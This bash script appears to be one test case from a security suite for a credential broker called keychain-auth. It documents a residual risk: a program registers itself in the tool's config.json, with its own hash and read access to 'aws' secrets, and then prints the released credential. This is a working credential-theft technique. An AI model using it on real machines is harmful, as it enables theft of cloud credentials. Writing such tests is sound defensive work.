#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# attack: without a passphrase: writes itself into config.json with an editor
# expects: released
# control: none
# kind: residual
# removed-by: passphrase (see sealed_*), system mode
# cost: -
set -euo pipefail

malware=$HOME/malware
cp "$ATTACK_VICTIM" "$malware"
hash=$(sha256sum <"$malware")
printf '{"registered_binaries":[{"path":"%s","hash":"%s","allowed_read_services":["aws"]}]}\n' \
    "$malware" "${hash%% *}" >"$HOME/.config/keychain-auth/config.json"
"$malware" connect print
